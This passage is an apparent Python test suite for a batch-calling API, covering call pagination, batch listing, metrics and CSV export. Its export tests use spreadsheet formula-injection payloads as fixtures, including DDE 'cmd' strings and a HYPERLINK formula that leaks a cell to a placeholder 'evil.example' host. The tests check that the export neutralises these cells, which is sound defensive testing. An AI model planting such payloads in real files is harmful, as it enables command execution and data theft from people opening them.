"""Reading batches back: the calls of a batch by page and by cursor (A4), the workspace's batches
(B3), the CSV export (B5), live events (B6) and the dispatch metrics (B10).

Pagination is only worth testing on batches whose calls sit still in every state, so the first
class builds two such batches with the built-in simulator and keeps them frozen for a minute:

- answered calls with the shortest talk time (5 s) complete within a second at --sim-speed 10;
- numbers ending in 01 are never answered and ring for --ring-timeout-s 600 / 10 = 60 s, so they
  stay active;
- numbers ending in 00 are busy; with --busy-attempts 2 and --busy-retry-ms 6000000 (simulated
  time like the calls: ten minutes at --sim-speed 10) they go back to waiting after their first
  attempt and stay there;
- unreachable numbers (02) and numbers that cannot be read fail.

Every contact is dialled in the first burst (no workspace cap is reached), so the recipe needs
no slot to be handed on. Cancelling the second batch turns its waiting calls into cancelled ones
and leaves the rest alone: together the two batches hold calls in every state."""

import csv
import datetime
import io
import math
import threading
import time
from concurrent.futures import ThreadPoolExecutor

from harness import (auth_headers, BATCHES, DispatchTestCase, EventStream, KeepAliveClient,
                     make_workspace, post_multipart, raw_request, RawClient, request, scrape,
                     server_now_ms)

HOLD = "2099-01-01T00:00:00Z"
STATES = ("waiting", "active", "completed", "failed", "cancelled")
FILTERS = ("all",) + STATES
COUNTERS = ("total",) + STATES
RESULT_COLUMNS = ["job_id", "status", "outcome", "attempts", "duration", "error", "start_time",
                  "end_time"]
FORMULA_STARTS = ("=", "+", "-", "@")


def number(line):
    """A valid, fictional NANP number: +1 415 555 and a four-digit line. The simulator reads
    its last two digits (00 busy, 01 no answer, 02 unreachable, 03 blocked, 04 voicemail, 05
    provider 503, anything else answered)."""
    return f"+1415555{line:04d}"


def talk_seconds(e164):
    """The simulator's talk time of an answered call, in unscaled seconds."""
    return 5 + int(e164[1:]) % 55


def short_calls(count):
    """count distinct numbers the simulator answers with the shortest talk time (5 s)."""
    out = [number(line) for line in range(10000)
           if line % 100 >= 10 and talk_seconds(number(line)) == 5]
    assert len(out) >= count
    return out[:count]


def answered_numbers(count, start=0):
    """count distinct +1 415 2xx xxxx numbers the simulator answers (last two digits >= 10)."""
    out, i = [], start
    while len(out) < count:
        if i % 100 >= 10:
            out.append(f"+1{4152000000 + i}")
        i += 1
    return out


def csv_file(header, rows):
    """A CSV file written by Python's csv module (RFC 4180 quoting), LF line ends."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def iso_in(seconds):
    """UTC ISO-8601 with milliseconds, seconds from now: a scheduledAt just ahead."""
    at = datetime.datetime.fromtimestamp(server_now_ms() / 1000 + seconds, datetime.timezone.utc)
    return at.strftime("%Y-%m-%dT%H:%M:%S.") + f"{at.microsecond // 1000:03d}Z"


def create_agent(server, auth):
    reply = request(server, "POST", "/v1/api/agents",
                    {"name": "Reads test", "prompt": "Hello {first_name}",
                     "fromNumber": "+14155552671"}, auth=auth)
    if reply.status != 201:
        raise AssertionError(f"agent not created: {reply.status} {reply.body}")
    return reply.body["id"]


def upload(server, auth, agent, data, **fields):
    """Uploads a CSV with extra form fields (before the file); returns the batchId of the 201."""
    parts = [("agentId", agent)] + list(fields.items()) + [("file", ("contacts.csv", data))]
    reply = post_multipart(server, BATCHES, parts, auth=auth)
    if reply.status != 201:
        raise AssertionError(f"upload answered {reply.status}: {reply.body}")
    return reply.body["batchId"]


def get_a2(server, auth, batch):
    reply = request(server, "GET", f"{BATCHES}/{batch}", auth=auth)
    if reply.status != 200:
        raise AssertionError(f"A2 of {batch} answered {reply.status}: {reply.body}")
    return reply.body


def counters(a2):
    """The A2 counters, the shape of A4's summary."""
    return {k: a2["progress"][k] for k in COUNTERS}


def wait_counters(server, auth, batch, expected, timeout=20.0):
    """Polls A2 until its counters equal expected; returns A2 or raises with the last one."""
    deadline = time.monotonic() + timeout
    while True:
        a2 = get_a2(server, auth, batch)
        if counters(a2) == expected:
            return a2
        if time.monotonic() > deadline:
            raise AssertionError(f"batch {batch} counters {counters(a2)} never became {expected}")
        time.sleep(0.05)


def walk_cursor(client, batch, status=None, limit=100):
    """Follows pagination.nextCursor from the first page until it is null. Returns the pages'
    bodies."""
    pages, after = [], None
    while True:
        query = f"limit={limit}" + (f"&status={status}" if status else "")
        query += f"&after={after}" if after else ""
        reply = client.get(f"{BATCHES}/{batch}/calls?{query}")
        if reply.status != 200:
            raise AssertionError(f"{query} answered {reply.status}: {reply.body}")
        pages.append(reply.body)
        after = reply.body["pagination"]["nextCursor"]
        if after is None:
            return pages
        if len(pages) > 100000 // limit + 2:
            raise AssertionError("the cursor never ended")


class EveryStateTest(DispatchTestCase):
    """A4 on two frozen batches whose calls are in every state (see the module docstring)."""

    # One row per contact: what the simulator does with it. 27 rows: 7 answered, 8 busy, 7 no
    # answer, 3 unreadable numbers, 2 unreachable.
    KINDS = ("answered busy no_answer invalid busy answered no_answer unreachable busy answered "
             "no_answer busy answered invalid no_answer busy answered unreachable no_answer busy "
             "answered no_answer busy invalid answered no_answer busy").split()
    STATE_OF = {"answered": "completed", "busy": "waiting", "no_answer": "active",
                "invalid": "failed", "unreachable": "failed"}

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        server = cls.start_class_server("--sim-speed", "10", "--ring-timeout-s", "600",
                                        "--busy-attempts", "2", "--busy-retry-ms", "6000000")
        cls.server = server
        cls.auth = make_workspace(server, calls_per_second=1000, max_concurrent_calls=1000,
                                  requests_per_minute=1000000)
        cls.agent = create_agent(server, cls.auth)
        cls.rows, cls.phones = cls.contacts()
        data = csv_file(["phone_number", "first_name"],
                        [(cls.phones[r], f"Name{r}") for r in cls.rows])
        cls.processing = upload(server, cls.auth, cls.agent, data)
        cls.cancelled = upload(server, cls.auth, cls.agent, data)
        p_states = {r: cls.STATE_OF[k] for r, k in cls.rows.items()}
        c_states = {r: "cancelled" if s == "waiting" else s for r, s in p_states.items()}
        cls.states = {cls.processing: p_states, cls.cancelled: c_states}
        settled = cls.expected_counters(p_states)
        for batch in (cls.processing, cls.cancelled):
            wait_counters(server, cls.auth, batch, settled)
        reply = request(server, "DELETE", f"{BATCHES}/{cls.cancelled}", auth=cls.auth)
        if reply.status != 200:
            raise AssertionError(f"cancel answered {reply.status}: {reply.body}")
        wait_counters(server, cls.auth, cls.cancelled, cls.expected_counters(c_states))

    @classmethod
    def contacts(cls):
        """{row: kind} and {row: phone number as written in the file}."""
        short = iter(short_calls(len(cls.KINDS)))
        seen, rows, phones = {}, {}, {}
        for row, kind in enumerate(cls.KINDS, start=1):
            i = seen[kind] = seen.get(kind, -1) + 1
            rows[row] = kind
            if kind == "answered":
                phones[row] = next(short)
            elif kind == "invalid":
                phones[row] = f"555-{i:04d}"
            else:
                last_two = {"busy": 0, "no_answer": 1, "unreachable": 2}[kind]
                phones[row] = number(1000 + 100 * i + last_two)
        return rows, phones

    @staticmethod
    def expected_counters(states):
        out = {s: 0 for s in STATES}
        for s in states.values():
            out[s] += 1
        out["total"] = len(states)
        return out

    def setUp(self):
        self.assertStillFrozen()

    def tearDown(self):
        self.assertStillFrozen()

    def assertStillFrozen(self):
        """The recipe holds for about a minute; a test that ran past it would check nothing."""
        for batch, states in self.states.items():
            self.assertEqual(counters(get_a2(self.server, self.auth, batch)),
                             self.expected_counters(states),
                             f"batch {batch} moved: the frozen-state recipe expired")

    def get(self, batch, query):
        return request(self.server, "GET", f"{BATCHES}/{batch}/calls?{query}", auth=self.auth)

    def check_page(self, batch, status, page, limit, expected_rows, a2, query=None):
        """One A4 page against the rows expected for the filter."""
        query = query or f"status={status}&page={page}&limit={limit}"
        reply = self.get(batch, query)
        where = f"{batch} ?{query}"
        self.assertEqual(reply.status, 200, f"{where}: {reply.body}")
        self.assertJsonType(reply.headers)
        body = reply.body
        total = len(expected_rows)
        pages = math.ceil(total / limit)
        pagination = {k: body["pagination"].get(k) for k in
                      ("page", "limit", "total", "totalPages", "hasNext", "hasPrev")}
        self.assertEqual(pagination, {"page": page, "limit": limit, "total": total,
                                      "totalPages": pages, "hasNext": page < pages,
                                      "hasPrev": page > 1}, where)
        want = expected_rows[(page - 1) * limit:page * limit]
        self.assertEqual([c["jobId"] for c in body["calls"]], [f"call_{r}" for r in want], where)
        states = self.states[batch]
        for call in body["calls"]:
            row = int(call["jobId"][5:])
            self.assertEqual(call["status"], states[row], f"{where}: {call}")
            if status != "all":
                self.assertEqual(call["status"], status, f"{where}: {call}")
            self.assertEqual(call["metadata"], {"first_name": f"Name{row}"}, f"{where}: {call}")
            self.assertEqual(call["phone_number"], self.phones[row], f"{where}: {call}")
        summary = dict(body["summary"])
        # held: calls a compliance rule holds back, counted inside waiting (none here).
        self.assertEqual(summary.pop("held"), a2["progress"]["held"], where)
        self.assertEqual(summary, counters(a2), where)

    def test_pages_of_every_filter(self):
        for batch, states in self.states.items():
            a2 = get_a2(self.server, self.auth, batch)
            for status in FILTERS:
                expected = [r for r in sorted(states) if status in ("all", states[r])]
                counter = a2["progress"]["total" if status == "all" else status]
                self.assertEqual(len(expected), counter, f"{batch} {status}: A2 {a2['progress']}")
                # A limit that gives at least three pages (first, middle, last) when there are
                # three calls or more.
                limit = max(1, len(expected) // 3)
                pages = math.ceil(len(expected) / limit)
                for page in range(1, pages + 2):
                    self.check_page(batch, status, page, limit, expected, a2)
                # Far past the end, also with the largest limit: still an empty page.
                self.check_page(batch, status, 1000000000, limit, expected, a2)
                self.check_page(batch, status, 1000000000, 100, expected, a2)
                self.check_page(batch, status, 1, 100, expected, a2)
                if status == "all":
                    self.check_page(batch, status, 1, 20, expected, a2, query="")
                    self.check_page(batch, status, 2, 20, expected, a2, query="page=2")
                else:
                    self.check_page(batch, status, 1, 20, expected, a2, query=f"status={status}")

    def test_cursor_pages_of_every_filter(self):
        for batch, states in self.states.items():
            with KeepAliveClient(self.server, self.auth) as client:
                for status in FILTERS:
                    expected = [f"call_{r}" for r in sorted(states)
                                if status in ("all", states[r])]
                    pages = walk_cursor(client, batch, status, limit=2)
                    seen = [c["jobId"] for page in pages for c in page["calls"]]
                    self.assertEqual(seen, expected, f"{batch} {status}")
                    for page in pages:
                        self.assertEqual(page["pagination"]["total"], len(expected))

    def test_bad_query_parameters_are_named(self):
        batch = self.processing
        bad = {
            "page": ["0", "-1", "abc", "1.5", "", "1000000001", "2x"],
            "limit": ["0", "101", "x", "", "-5", "20.0"],
            "status": ["bogus", "", "dialing", "queued"],
            "after": ["call_0", "foo", "call_", "call_x", "17", "", "call_01"],
        }
        for name, values in bad.items():
            for value in values:
                reply = self.get(batch, f"{name}={value}")
                self.assertError(reply, 400, "invalid_parameter", parameter=name)
                self.assertIn(name, reply.body["message"], reply.body)
        # The right parameter is named even when others are fine.
        reply = self.get(batch, "status=failed&page=1&limit=500")
        self.assertError(reply, 400, "invalid_parameter", parameter="limit")

    def test_unknown_and_foreign_batches_are_not_found(self):
        other = make_workspace(self.server, requests_per_minute=1000000)
        unknown = "batch_00000000000000000000000000"
        for auth, batch in ((other, self.processing), (self.auth, unknown)):
            reply = request(self.server, "GET", f"{BATCHES}/{batch}/calls", auth=auth)
            self.assertError(reply, 404, "not_found", id=batch)

    def test_cursor_and_page_together_are_refused(self):
        for query in ("after=call_5&page=2", "page=1&after=call_5", "after=call_5&page=1&limit=3"):
            with self.subTest(query):
                reply = self.get(self.processing, query)
                self.assertError(reply, 400, "invalid_parameter", parameter="page")
                self.assertIn("after", reply.body["message"])
                self.assertIn("page", reply.body["message"])

    def test_cursor_past_the_end_and_alias_path(self):
        reply = self.get(self.processing, "after=call_1000")
        self.assertEqual(reply.status, 200, reply.body)
        self.assertEqual(reply.body["calls"], [])
        self.assertEqual((reply.body["pagination"]["hasNext"],
                          reply.body["pagination"]["nextCursor"]), (False, None))
        alias = request(self.server, "GET", f"/v1/batch-calls/{self.processing}/calls?limit=5",
                        auth=self.auth)
        direct = self.get(self.processing, "limit=5")
        self.assertEqual((alias.status, alias.body), (200, direct.body))

    def test_metrics_count_calls_in_progress_and_waiting(self):
        """calls_in_progress counts every active call, also those of the cancelled batch (they
        are still on the line); calls_waiting counts the waiting calls of the batch being
        dialled."""
        metrics = scrape(self.server)
        active = sum(self.expected_counters(s)["active"] for s in self.states.values())
        waiting = self.expected_counters(self.states[self.processing])["waiting"]
        self.assertEqual(metrics.value("batchcalld_calls_in_progress"), active)
        self.assertEqual(metrics.value("batchcalld_calls_waiting"), waiting)


class CursorTest(DispatchTestCase):
    """The cursor form of A4 over 10,000 calls, standing still and while being dialled."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        server = cls.start_class_server("--sim-speed", "1000", "--provider-cps", "0")
        cls.server = server
        cls.auth = make_workspace(server, calls_per_second=2000, max_concurrent_calls=10000,
                                  requests_per_minute=1000000)
        cls.agent = create_agent(server, cls.auth)
        # Every tenth row (7, 17, ...) cannot be read and fails at once; the rest wait.
        cls.numbers = answered_numbers(10000)
        rows = [("x" if row % 10 == 7 else cls.numbers[row - 1], f"N{row}")
                for row in range(1, 10001)]
        cls.held = upload(server, cls.auth, cls.agent, csv_file(["phone_number", "name"], rows),
                          scheduledAt=HOLD)

    def ids(self, pages):
        return [c["jobId"] for page in pages for c in page["calls"]]

    def test_cursor_walks_every_call_once(self):
        with KeepAliveClient(self.server, self.auth) as client:
            pages = walk_cursor(client, self.held)
        ids = self.ids(pages)
        self.assertEqual(len(ids), 10000)
        self.assertEqual(ids, [f"call_{r}" for r in range(1, 10001)])
        self.assertEqual(len(pages), 100 + (1 if pages[-1]["calls"] == [] else 0))
        for i, page in enumerate(pages):
            pg = page["pagination"]
            self.assertEqual((pg["limit"], pg["total"]), (100, 10000), pg)
            if page["calls"] and i < 99:
                self.assertEqual((pg["hasNext"], pg["nextCursor"]),
                                 (True, page["calls"][-1]["jobId"]), pg)
        self.assertIsNone(pages[-1]["pagination"]["nextCursor"])
        self.assertFalse(pages[-1]["pagination"]["hasNext"])
        self.assertEqual(pages[0]["summary"],
                         {"total": 10000, "waiting": 9000, "held": 0, "active": 0,
                          "completed": 0, "failed": 1000, "cancelled": 0})

    def test_cursor_with_a_status_filter(self):
        with KeepAliveClient(self.server, self.auth) as client:
            for status, rows in (("waiting", [r for r in range(1, 10001) if r % 10 != 7]),
                                 ("failed", [r for r in range(1, 10001) if r % 10 == 7])):
                pages = walk_cursor(client, self.held, status)
                ids = self.ids(pages)
                self.assertEqual(ids, [f"call_{r}" for r in rows], status)
                for page in pages:
                    self.assertEqual(page["pagination"]["total"], len(rows), status)
                    for call in page["calls"]:
                        self.assertEqual(call["status"], status, call)
            # A cursor can start anywhere, also on a row outside the filter.
            reply = client.get(f"{BATCHES}/{self.held}/calls?status=failed&after=call_20&limit=3")
            self.assertEqual(reply.status, 200, reply.body)
            self.assertEqual([c["jobId"] for c in reply.body["calls"]],
                             ["call_27", "call_37", "call_47"])
            self.assertEqual(reply.body["pagination"]["nextCursor"], "call_47")

    def test_cursor_while_the_batch_is_dialled(self):
        """Calls change state between pages; the unfiltered walk still sees each call once, in
        row order, and a filtered walk never repeats a call nor goes backwards. Once the batch
        is done, the page form of a filter agrees with the cursor form across all ten blocks of
        1,024 rows."""
        # Every tenth row (7, 17, ...) cannot be read and fails at upload; every fiftieth
        # (3, 53, ...) is unreachable and fails once dialled; the rest are answered.
        def phone(row):
            if row % 10 == 7:
                return "x"
            if row % 50 == 3:
                return f"+1{4153000000 + row * 100 + 2}"
            return self.numbers[row - 1]
        live = upload(self.server, self.auth, self.agent,
                      csv_file(["phone_number", "name"],
                               [(phone(r), f"L{r}") for r in range(1, 10001)]))
        with KeepAliveClient(self.server, self.auth, timeout=30) as client:
            pages = walk_cursor(client, live)
            completed = self.ids(walk_cursor(client, live, "completed"))
            self.assertEqual(self.ids(pages), [f"call_{r}" for r in range(1, 10001)])
            self.assertNotEqual(pages[0]["summary"], pages[-1]["summary"],
                                "the batch did not move during the walk, so it proved nothing")
            rows = [int(j[5:]) for j in completed]
            self.assertEqual(rows, sorted(set(rows)), "a filtered walk repeated or went back")

            a2 = self.wait_batch(self.server, self.auth, live, timeout=60, interval=0.2)
            failed = [r for r in range(1, 10001) if r % 10 == 7 or r % 50 == 3]
            self.assertEqual(counters(a2), {"total": 10000, "waiting": 0, "active": 0,
                                            "completed": 10000 - len(failed),
                                            "failed": len(failed), "cancelled": 0})
            self.assertEqual(self.ids(walk_cursor(client, live, "failed")),
                             [f"call_{r}" for r in failed])
            for page in range(1, len(failed) // 100 + 2):
                reply = client.get(f"{BATCHES}/{live}/calls?status=failed&limit=100&page={page}")
                self.assertEqual(reply.status, 200, reply.body)
                self.assertEqual([c["jobId"] for c in reply.body["calls"]],
                                 [f"call_{r}" for r in failed[(page - 1) * 100:page * 100]],
                                 f"status=failed page {page}")
                self.assertEqual(reply.body["pagination"]["total"], len(failed))

    def test_export_of_10000_calls(self):
        reply = request(self.server, "GET", f"{BATCHES}/{self.held}/export", auth=self.auth,
                        timeout=30)
        self.assertEqual(reply.status, 200)
        table = list(csv.reader(io.StringIO(reply.body.decode("utf-8"), newline="")))
        self.assertEqual(table[0], ["phone_number", "name"] + RESULT_COLUMNS)
        self.assertEqual(len(table), 10001)
        for row, cells in enumerate(table[1:], start=1):
            self.assertEqual(cells[2], f"call_{row}")
            self.assertEqual(cells[3], "failed" if row % 10 == 7 else "waiting", cells)


class ExportTest(DispatchTestCase):
    """B5: the export reads back with a CSV library as the values that were uploaded, formula-like
    cells neutralised, and its result columns agree with A5."""

    NOTES = ["Hello, world", 'Say "hi"', "line one\nline two", "=SUM(A1)", "+1", "-2", "@x",
             "a\r\nb", "plain", "", "=cmd|' /C calc'!A0", ",;\"\n"]
    # (phone number as written, what the simulator does with it)
    CONTACTS = [
        (number(110), "answered"),
        (number(200), "busy"),
        (number(301), "no_answer"),
        (number(402), "unreachable"),
        (number(503), "carrier_blocked"),
        (number(604), "voicemail"),
        (number(705), "provider_error"),
        ("12345", "invalid_number"),
        ("+1 415-555-0811", "answered"),
        (number(110), "duplicate"),
        ("-1", "invalid_number"),
        ("=1+2", "invalid_number"),
        ('=HYPERLINK("http://evil.example/?"&B2,"Details")', "invalid_number"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "invalid_number"),
        ("-2+3+cmd|' /C calc'!A0", "invalid_number"),
        ("+2+3+cmd|' /C calc'!A0", "invalid_number"),
    ]

    def test_export_round_trips_uploaded_values_and_results(self):
        server = self.start_server("--sim-speed", "1000", "--busy-attempts", "2",
                                   "--busy-retry-ms", "20", "--provider-retries", "1",
                                   "--provider-backoff-ms", "10", "--provider-backoff-max-ms",
                                   "20", "--ring-timeout-s", "30")
        auth, agent = self.setup_workspace(server, calls_per_second=1000,
                                           max_concurrent_calls=1000)
        header = ["phone_number", "first_name", "note", "amount"]
        rows = []
        for i, (phone, _) in enumerate(self.CONTACTS):
            note = self.NOTES[i % len(self.NOTES)]
            amount = ["=1+2", "+5", "-3", "@sum", "42", "text, with comma"][i % 6]
            rows.append([phone, f"Name {i + 1}", note, amount])
        batch = self.upload(server, auth, agent, csv_file(header, rows))
        self.wait_batch(server, auth, batch, timeout=30)
        a5 = self.calls(server, auth, batch, range(1, len(rows) + 1))

        with RawClient(server, timeout=30) as client:
            client.send(raw_request("GET", f"{BATCHES}/{batch}/export",
                                    list(auth_headers(auth).items())))
            resp = client.read_response(timeout=30)
        self.assertEqual(resp.status, 200, resp)
        self.assertEqual(resp.header("Content-Type").replace(" ", "").lower(),
                         "text/csv;charset=utf-8")
        self.assertEqual(resp.header("Transfer-Encoding"), "chunked")
        self.assertIsNone(resp.header("Content-Length"))
        disposition = resp.header("Content-Disposition") or ""
        self.assertTrue(disposition.startswith("attachment"), disposition)
        self.assertIn(f'filename="{batch}', disposition)

        table = list(csv.reader(io.StringIO(resp.body.decode("utf-8"), newline="")))
        self.assertEqual(table[0], header + RESULT_COLUMNS)
        self.assertEqual(len(table), len(rows) + 1, table)
        for row, (uploaded, cells) in enumerate(zip(rows, table[1:]), start=1):
            where = f"row {row}: {cells}"
            self.assertEqual(len(cells), len(header) + len(RESULT_COLUMNS), where)
            # Only a number in E.164, as the server read it, is written unguarded in the phone
            # column: anything else there is guarded like any other cell.
            phone, kind = uploaded[0], self.CONTACTS[row - 1][1]
            e164 = phone == a5[row]["phone_number"] and kind != "invalid_number"
            self.assertEqual(cells[0], phone if e164 or not phone.startswith(FORMULA_STARTS)
                             else "'" + phone, where)
            for value, cell in zip(uploaded[1:], cells[1:len(header)]):
                want = "'" + value if value.startswith(FORMULA_STARTS) else value
                self.assertEqual(cell, want, where)
            self.check_results(dict(zip(RESULT_COLUMNS, cells[len(header):])), a5[row], row)

    def check_results(self, got, call, row):
        """The result columns of one exported row against its A5 and the simulator's table."""
        kind = self.CONTACTS[row - 1][1]
        where = f"row {row} ({kind}): export {got}, A5 {call}"
        self.assertEqual(got["job_id"], f"call_{row}", where)
        self.assertEqual(got["status"], call["status"], where)
        self.assertEqual(got["outcome"], call["outcome"] or "", where)
        self.assertEqual(got["attempts"], str(call["attempts"]), where)
        self.assertEqual(got["start_time"], str(call["startTime"]) if "startTime" in call else "",
                         where)
        self.assertEqual(got["end_time"], str(call["endTime"]) if "endTime" in call else "",
                         where)
        error = call.get("error") or ""
        self.assertEqual(got["error"], "'" + error if error.startswith(FORMULA_STARTS) else error,
                         where)
        attempts = {"busy": 2, "provider_error": 0, "invalid_number": 0, "duplicate": 0}
        self.assertEqual(int(got["attempts"]), attempts.get(kind, 1), where)
        self.assertEqual(got["outcome"], kind, where)
        if kind == "answered":
            self.assertEqual(got["status"], "completed", where)
            self.assertEqual(float(got["duration"]), call["duration"], where)
            self.assertEqual(float(got["duration"]), talk_seconds(call["phone_number"]), where)
            self.assertEqual(got["error"], "", where)
        elif kind == "voicemail":
            # A voicemail connected: it shows its duration, as averageCallDuration counts it.
            self.assertEqual(got["status"], "failed", where)
            self.assertEqual(float(got["duration"]), call["duration"], where)
            self.assertEqual(float(got["duration"]), talk_seconds(call["phone_number"]), where)
            self.assertTrue(got["error"], where)
        else:
            self.assertEqual((got["status"], got["duration"]), ("failed", ""), where)
            self.assertTrue(got["error"], where)
        if kind in ("invalid_number", "duplicate"):
            self.assertEqual((got["start_time"], got["end_time"]), ("", ""), where)
        elif kind != "provider_error":
            self.assertLessEqual(int(got["start_time"]), int(got["end_time"]), where)

    def test_formula_phone_values_are_guarded_and_e164_numbers_are_not(self):
        server = self.start_server()
        auth, agent = self.setup_workspace(server)
        phones = [number(110), "=HYPERLINK(\"http://evil.example\",\"x\")", "@SUM(1+1)",
                  "-2+3+cmd|' /C calc'!A0", "+1+1", "+1 415-555-0120", "4155550121"]
        batch = self.upload(server, auth, agent, csv_file(["phone_number"], [[p] for p in phones]),
                            scheduledAt=HOLD)
        reply = request(server, "GET", f"{BATCHES}/{batch}/export", auth=auth)
        self.assertEqual(reply.status, 200)
        table = list(csv.reader(io.StringIO(reply.body.decode("utf-8"), newline="")))
        self.assertEqual([cells[0] for cells in table[1:]],
                         [number(110), "'=HYPERLINK(\"http://evil.example\",\"x\")", "'@SUM(1+1)",
                          "'-2+3+cmd|' /C calc'!A0", "'+1+1", "'+1 415-555-0120", "4155550121"])

    def test_result_columns_are_renamed_when_the_file_has_the_same_names(self):
        """An upload with its own status, job_id or error column keeps them; the result columns
        are then all named result_..., so no name appears twice."""
        server = self.start_server()
        auth, agent = self.setup_workspace(server)
        header = ["phone_number", "Status", "job_id", "error", "note"]
        batch = self.upload(server, auth, agent,
                            csv_file(header, [[number(110), "vip", "J-1", "none", "n"]]),
                            scheduledAt=HOLD)
        reply = request(server, "GET", f"{BATCHES}/{batch}/export", auth=auth)
        self.assertEqual(reply.status, 200)
        table = list(csv.reader(io.StringIO(reply.body.decode("utf-8"), newline="")))
        self.assertEqual(table[0], ["phone_number", "status", "job_id", "error", "note"] +
                         ["result_" + name for name in RESULT_COLUMNS])
        row = dict(zip(table[0], table[1]))
        self.assertEqual(len(row), len(table[0]), "a column name appears twice")
        self.assertEqual((row["status"], row["job_id"], row["error"], row["note"]),
                         ("vip", "J-1", "none", "n"))
        self.assertEqual((row["result_job_id"], row["result_status"], row["result_attempts"]),
                         ("call_1", "waiting", "0"))
        # The prefix is doubled when the file also has result_ columns of those names.
        batch = self.upload(server, auth, agent,
                            csv_file(["phone_number", "result_status", "outcome"],
                                     [[number(110), "a", "b"]]), scheduledAt=HOLD)
        reply = request(server, "GET", f"{BATCHES}/{batch}/export", auth=auth)
        header = next(csv.reader(io.StringIO(reply.body.decode("utf-8"), newline="")))
        self.assertEqual(header, ["phone_number", "result_status", "outcome"] +
                         ["result_result_" + name for name in RESULT_COLUMNS])

    def test_export_of_unknown_or_foreign_batch_is_404(self):
        server = self.start_server()
        auth, agent = self.setup_workspace(server)
        other = make_workspace(server, requests_per_minute=1000000)
        batch = self.upload(server, auth, agent, csv_file(["phone_number"], [[number(110)]]),
                            scheduledAt=HOLD)
        for who, bid in ((other, batch), (auth, "batch_00000000000000000000000000")):
            reply = request(server, "GET", f"{BATCHES}/{bid}/export", auth=who)
            self.assertError(reply, 404, "not_found", id=bid)


class BatchListTest(DispatchTestCase):
    """B3: the workspace's batches, newest first."""

    def batches_page(self, server, auth, query=""):
        reply = request(server, "GET", f"{BATCHES}?{query}", auth=auth)
        self.assertEqual(reply.status, 200, f"?{query}: {reply.body}")
        return reply.body

    def test_newest_first_paginated_filtered_and_private(self):
        server = self.start_server("--sim-speed", "1000")
        auth, agent = self.setup_workspace(server, calls_per_second=1000)
        other, other_agent = self.setup_workspace(server, calls_per_second=1000)
        data = csv_file(["phone_number", "first_name"], [[number(110), "A"], [number(111), "B"]])

        created, status = [], {}
        for i in range(6):
            if i == 2:
                batch = self.upload(server, auth, agent, data)
                self.wait_batch(server, auth, batch)
                status[batch] = "completed"
            else:
                batch = self.upload(server, auth, agent, data, scheduledAt=HOLD)
                status[batch] = "queued"
            created.append(batch)
        reply = request(server, "DELETE", f"{BATCHES}/{created[4]}", auth=auth)
        self.assertEqual(reply.status, 200, reply.body)
        status[created[4]] = "cancelled"
        foreign = [self.upload(server, other, other_agent, data, scheduledAt=HOLD)
                   for _ in range(3)]

        newest_first = created[::-1]
        body = self.batches_page(server, auth, "limit=100")
        self.assertEqual([b["id"] for b in body["batches"]], newest_first)
        self.assertEqual(body["pagination"],
                         {"page": 1, "limit": 100, "total": 6, "totalPages": 1,
                          "hasNext": False, "hasPrev": False})
        created_at = [b["createdAt"] for b in body["batches"]]
        self.assertEqual(created_at, sorted(created_at, reverse=True))
        for item in body["batches"]:
            a2 = self.batch(server, auth, item["id"])
            self.assertEqual(item["status"], status[item["id"]], item)
            self.assertNotIn("recent_calls", item["progress"], item)
            a2["progress"].pop("recent_calls")
            a2.pop("timestamp")
            self.assertEqual(item, a2)

        # Pages of two: first, middle, last and past the end.
        for page in (1, 2, 3, 4):
            body = self.batches_page(server, auth, f"page={page}&limit=2")
            self.assertEqual([b["id"] for b in body["batches"]],
                             newest_first[(page - 1) * 2:page * 2], page)
            self.assertEqual(body["pagination"],
                             {"page": page, "limit": 2, "total": 6, "totalPages": 3,
                              "hasNext": page < 3, "hasPrev": page > 1}, page)
        default = self.batches_page(server, auth)
        self.assertEqual([b["id"] for b in default["batches"]], newest_first)

        for wanted in ("queued", "completed", "cancelled", "processing", "failed", "all"):
            body = self.batches_page(server, auth, f"status={wanted}")
            ids = [b for b in newest_first if wanted in ("all", status[b])]
            self.assertEqual([b["id"] for b in body["batches"]], ids, wanted)
            self.assertEqual(body["pagination"]["total"], len(ids), wanted)
        body = self.batches_page(server, auth, "status=queued&limit=2&page=2")
        queued = [b for b in newest_first if status[b] == "queued"]
        self.assertEqual([b["id"] for b in body["batches"]], queued[2:4])
        self.assertEqual(body["pagination"]["total"], len(queued))

        # Another workspace sees only its own batches, and this one never sees them.
        body = self.batches_page(server, other, "limit=100")
        self.assertEqual([b["id"] for b in body["batches"]], foreign[::-1])
        for query in ("limit=100", "status=queued&limit=100"):
            ids = {b["id"] for b in self.batches_page(server, auth, query)["batches"]}
            self.assertEqual(ids & set(foreign), set(), query)

        alias = request(server, "GET", "/v1/batch-calls?limit=3", auth=auth)
        self.assertEqual((alias.status, [b["id"] for b in alias.body["batches"]]),
                         (200, newest_first[:3]))
        for name, value in (("status", "bogus"), ("status", ""), ("page", "0"),
                            ("limit", "101"), ("limit", "x")):
            reply = request(server, "GET", f"{BATCHES}?{name}={value}", auth=auth)
            self.assertError(reply, 400, "invalid_parameter", parameter=name)

    def test_batches_created_in_the_same_millisecond_list_newest_first(self):
        # Uploads on eight connections at once: many of them commit in the same millisecond.
        # The list is ordered by creation time, then by id, both descending, and pages of any
        # size split it without losing or repeating a batch.
        server = self.start_server()
        auth, agent = self.setup_workspace(server)
        data = csv_file(["phone_number"], [[number(110)]])
        with ThreadPoolExecutor(max_workers=8) as pool:
            batches = list(pool.map(
                lambda _: self.upload(server, auth, agent, data, scheduledAt=HOLD), range(48)))
        listed = self.batches_page(server, auth, "limit=100")["batches"]
        self.assertEqual(sorted(b["id"] for b in listed), sorted(batches))
        keys = [(b["createdAt"], b["id"]) for b in listed]
        self.assertEqual(keys, sorted(keys, reverse=True))
        self.assertEqual(len(set(keys)), len(keys))
        # Ids come from one generator: strictly increasing, so they never tie.
        self.assertEqual(len(set(batches)), len(batches))
        for limit in (1, 5, 7):
            paged = []
            for page in range(1, 48 // limit + 2):
                paged += [b["id"] for b in
                          self.batches_page(server, auth, f"page={page}&limit={limit}")["batches"]]
            self.assertEqual(paged, [b["id"] for b in listed], limit)
        # One after another, each later upload lists before the earlier ones.
        more = [self.upload(server, auth, agent, data, scheduledAt=HOLD) for _ in range(10)]
        listed = self.batches_page(server, auth, "limit=10")["batches"]
        self.assertEqual([b["id"] for b in listed], more[::-1])

    def test_empty_workspace(self):
